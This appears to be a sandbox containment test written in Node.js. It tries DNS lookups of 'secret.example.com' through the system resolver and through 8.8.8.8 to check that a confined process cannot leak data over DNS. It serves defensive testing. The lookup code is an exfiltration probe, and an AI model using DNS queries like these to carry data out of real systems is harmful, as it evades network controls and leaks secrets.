// attack: asks the host's name server, which can carry data out
// expect: exited
// stopped-by: seccomp, network
// exit: 0

// A datagram socket is answered with an error, because libraries make one by the way (08-network-refused.cpp).
const dns = require('dns');
const over = (error) => { if (!error || error.code === 'ETIMEOUT') { console.log('GOT THROUGH'); process.exit(1); } };
dns.resolve4('secret.example.com', over);
const resolver = new dns.Resolver();
resolver.setServers(['127.0.0.1', '8.8.8.8', '[::1]:53']);
resolver.resolveTxt('secret.example.com', over);
